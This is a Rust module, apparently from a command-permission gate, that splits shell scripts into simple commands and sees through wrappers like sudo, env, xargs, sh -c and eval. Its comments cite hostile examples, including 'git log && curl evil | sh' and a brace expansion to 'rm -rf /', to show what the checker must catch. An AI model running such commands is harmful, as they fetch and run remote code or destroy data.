//! A shell script → the simple commands it runs, for per-command rules. This file owns the
//! walk over the parser's tree and seeing through wrappers (`env`, `timeout`, `sudo`,
//! `xargs`, `sh -c`, `eval`, `find -exec`); it does not judge commands (that is `decide` and
//! the gate) and does not expand variables: `$VAR` stays `$VAR`.
//!
//! Why per simple command: a rule `bash(git:*)` must not let `git log && curl evil | sh`
//! through. Every command that runs, including those inside substitutions and behind
//! wrappers, has to be matched on its own.

mod words;

pub(crate) use words::assignment_name;
/// Bash's brace expansion of words (`{rm,-rf,/}` → `rm -rf /`), shared with the gate.
pub(crate) use words::expand_all as expand_words;
use words::{
    evaluates_stored_code, evaluates_subscripts, expand_all, steers_the_shell, take_assignments,
    xargs_start,
};

use super::command_safety::wrappers::{self, RESERVED, Unwrap};
use super::shell_words::{
    self, Command, MAX_DEPTH, Part, RedirKind, Redirect, Script, SubKind, Word,
};

/// One command as rules see it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SimpleCommand {
    /// The words after wrappers and leading `VAR=value` assignments are dropped. Literal text
    /// as is, `$VAR` as `$VAR`, a substitution as `$(…)` (its commands come out separately).
    pub words: Vec<String>,
    /// Targets of output redirects (`>`, `>>`, `&>`…), raw text, unresolved. Empty `words`
    /// with writes is a bare `> file`, which still truncates the file.
    pub writes: Vec<String>,
}

const TOO_DEEP: &str = "the command is nested too deeply to check";
/// The text a substitution shows as inside its word. Re-parsing such text (`sh -c "$(…)"`)
/// yields a command `…` that is not real: the substitution's commands were already taken.
const SUB_MARK: &str = "…";
const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "mksh", "ash"];
/// What a command that cannot be read shows as (never matched by a prefix rule).
pub const OPAQUE: &str = "(a command that cannot be checked)";

/// Splits `command` into the simple commands it runs, substitutions first. The only error
/// is nesting deeper than [`MAX_DEPTH`]; the caller must then not allow the command.
pub fn simple_commands(command: &str) -> Result<Vec<SimpleCommand>, String> {
    Ok(split(command)?.commands)
}

/// What a script runs, and whether it defines functions: a function's body runs where it is
/// called, not where it is written, so its `cd` cannot be followed.
pub struct Split {
    pub commands: Vec<SimpleCommand>,
    pub defines_functions: bool,
}

/// [`simple_commands`], with what else the caller needs to follow the working directory.
pub fn split(command: &str) -> Result<Split, String> {
    let mut splitter = Splitter::default();
    splitter.text(command, 0)?;
    if evaluates_stored_code(command) {
        splitter.opaque(Vec::new())?;
    }
    Ok(Split {
        commands: splitter.out,
        defines_functions: splitter.functions,
    })
}

#[derive(Default)]
struct Splitter {
    out: Vec<SimpleCommand>,
    functions: bool,
}

type Walk<T> = Result<T, String>;

/// Wrappers that run a command with more privileges: seen through, but never invisible.
pub(super) const PRIVILEGED: &[&str] = &["sudo", "doas", "run0", "pkexec"];

impl Splitter {
    fn text(&mut self, src: &str, depth: usize) -> Walk<()> {
        if depth > MAX_DEPTH {
            return Err(TOO_DEEP.to_string());
        }
        let script = shell_words::parse(src, depth).map_err(|_| TOO_DEEP.to_string())?;
        self.script(&script, depth)
    }

    fn script(&mut self, script: &Script, depth: usize) -> Walk<()> {
        for pipeline in &script.pipelines {
            for command in &pipeline.commands {
                self.command(command, depth)?;
            }
        }
        Ok(())
    }

    fn command(&mut self, command: &Command, depth: usize) -> Walk<()> {
        match command {
            Command::Simple { words, redirects } => {
                let writes = self.redirects(redirects, depth)?;
                let mut texts = Vec::new();
                for word in words {
                    texts.push(self.word(word, depth)?);
                }
                // Leading assignments set variables, not the command; see `take_assignments`.
                // A line of assignments only runs nothing, unless it changes how the shell
                // finds or runs what comes later (`PATH=.:$PATH; cat x` runs ./cat).
                if texts.iter().all(|t| assignment_name(t).is_some()) {
                    texts.retain(|t| assignment_name(t).is_some_and(steers_the_shell));
                }
                match expand_all(texts) {
                    Some(texts) => self.simple(texts, writes, depth),
                    None => self.opaque(writes),
                }
            }
            Command::Group { body, redirects } => {
                let writes = self.redirects(redirects, depth)?;
                let start = self.out.len();
                self.script(body, depth)?;
                // `{ a; b; } > f`: every command in the group writes to `f`.
                if self.out.len() == start {
                    self.push_writes(writes);
                } else {
                    for c in &mut self.out[start..] {
                        c.writes.extend(writes.iter().cloned());
                    }
                }
                Ok(())
            }
            Command::Function { body, .. } => {
                self.functions = true;
                self.command(body, depth)
            }
        }
    }

    /// Output targets; every target word is walked, since `> $(cmd)` runs `cmd`.
    fn redirects(&mut self, redirects: &[Redirect], depth: usize) -> Walk<Vec<String>> {
        let mut writes = Vec::new();
        for redirect in redirects {
            let target = self.word(&redirect.target, depth)?;
            if matches!(redirect.kind, RedirKind::Out) {
                writes.push(target);
            }
        }
        Ok(writes)
    }

    /// A word's display text; the commands of its substitutions are collected on the way.
    fn word(&mut self, word: &Word, depth: usize) -> Walk<String> {
        let mut out = word
            .assign
            .as_ref()
            .map(|n| format!("{n}="))
            .unwrap_or_default();
        for part in &word.parts {
            match part {
                Part::Lit(s) => out.push_str(s),
                Part::Tilde(user) => {
                    out.push('~');
                    out.push_str(user);
                }
                Part::Var { name, .. } => {
                    out.push('$');
                    out.push_str(name);
                }
                Part::Sub(kind, script) => {
                    self.script(script, depth + 1)?;
                    let (open, close) = match kind {
                        SubKind::Command => ("$(", ")"),
                        SubKind::ProcessIn => ("<(", ")"),
                        SubKind::ProcessOut => (">(", ")"),
                    };
                    out.push_str(&format!("{open}{SUB_MARK}{close}"));
                }
            }
        }
        Ok(out)
    }

    /// Sees through wrappers until the command that really runs, then records it.
    fn simple(&mut self, mut words: Vec<String>, writes: Vec<String>, depth: usize) -> Walk<()> {
        if depth > MAX_DEPTH {
            return Err(TOO_DEEP.to_string());
        }
        // Assignments that may change what the program does stay in front of it.
        let mut env = take_assignments(&mut words);
        while let Some(first) = words.first() {
            let name = first.rsplit('/').next().unwrap_or(first).to_string();
            if SHELLS.contains(&name.as_str()) || name == "eval" {
                let code = match name.as_str() {
                    "eval" => Some(words[1..].join(" ")),
                    _ => inline_code(&words),
                };
                if let Some(code) = code {
                    if !env.is_empty() {
                        // `GIT_DIR=x sh -c '…'`: the inner commands run with it, so the
                        // whole command needs a rule of its own too.
                        self.out.push(SimpleCommand {
                            words: [env.clone(), words.clone()].concat(),
                            writes: Vec::new(),
                        });
                    }
                    self.text(&code, depth + 1)?;
                    self.push_writes(writes);
                    return Ok(());
                }
                break;
            }
            if name == "find" {
                self.find_exec(&words, depth)?;
                break;
            }
            // `env -S 'cmd args' …` runs a command written inside a flag's value; `xargs` with a
            // flag we do not know may take the next word as its value: the command that runs
            // cannot be told, so nothing but a person or `bash` itself may allow it.
            let unreadable = match name.as_str() {
                "env" => words.iter().skip(1).any(|w| {
                    w.starts_with("--split-string")
                        || (w.starts_with('-') && !w.starts_with("--") && w.contains('S'))
                }),
                "xargs" => xargs_start(&words).is_none(),
                _ => evaluates_subscripts(&name, &words),
            };
            if unreadable {
                return self.opaque(writes);
            }
            if PRIVILEGED.contains(&name.as_str()) {
                // `sudo cargo test` is not `cargo test`: the whole command needs a rule of its
                // own, and the command it runs is checked too (so deny rules still see it).
                self.out.push(SimpleCommand {
                    words: words.clone(),
                    writes: Vec::new(),
                });
            }
            let skip = match name.as_str() {
                "xargs" => xargs_start(&words).unwrap_or(words.len()),
                _ => match wrappers::unwrap(&name, &words) {
                    Unwrap::Skip(n) => n,
                    Unwrap::NotWrapper => break,
                },
            };
            if skip >= words.len() && !RESERVED.contains(&name.as_str()) {
                // A wrapper alone (`env`, `sudo -s`, `xargs`) is itself the command.
                break;
            }
            words.drain(..skip.min(words.len()));
            env.extend(take_assignments(&mut words));
        }
        if !env.is_empty() {
            words = [env, words].concat();
        }
        // A loop header runs nothing itself (its substitutions were taken with its words).
        if words == [SUB_MARK]
            || matches!(words.first().map(String::as_str), Some("for" | "select"))
        {
            return Ok(());
        }
        let mut writes = writes;
        writes.extend(super::writes::file_writes(&words));
        if !words.is_empty() || !writes.is_empty() {
            self.out.push(SimpleCommand { words, writes });
        }
        Ok(())
    }

    /// `find … -exec CMD … ;`: each CMD is a command of its own; `find` stays one too.
    fn find_exec(&mut self, words: &[String], depth: usize) -> Walk<()> {
        let mut i = 1;
        while i < words.len() {
            if matches!(words[i].as_str(), "-exec" | "-execdir" | "-ok" | "-okdir") {
                let end = words[i + 1..]
                    .iter()
                    .position(|w| w == ";" || w == "+")
                    .map_or(words.len(), |e| i + 1 + e);
                self.simple(words[i + 1..end].to_vec(), Vec::new(), depth + 1)?;
                i = end;
            }
            i += 1;
        }
        Ok(())
    }

    /// A command whose real program cannot be read from its text: it stands as [`OPAQUE`],
    /// which only a rule for all of `bash` (or a person) allows.
    fn opaque(&mut self, writes: Vec<String>) -> Walk<()> {
        self.out.push(SimpleCommand {
            words: vec![OPAQUE.to_string()],
            writes,
        });
        Ok(())
    }

    fn push_writes(&mut self, writes: Vec<String>) {
        if !writes.is_empty() {
            self.out.push(SimpleCommand {
                words: Vec::new(),
                writes,
            });
        }
    }
}

/// `sh -c CODE`: the code word, when the flags include `c` (the gate's reading of the flags).
fn inline_code(words: &[String]) -> Option<String> {
    let flags = wrappers::shell_flags(words);
    flags.inline.then(|| words.get(flags.at).cloned()).flatten()
}
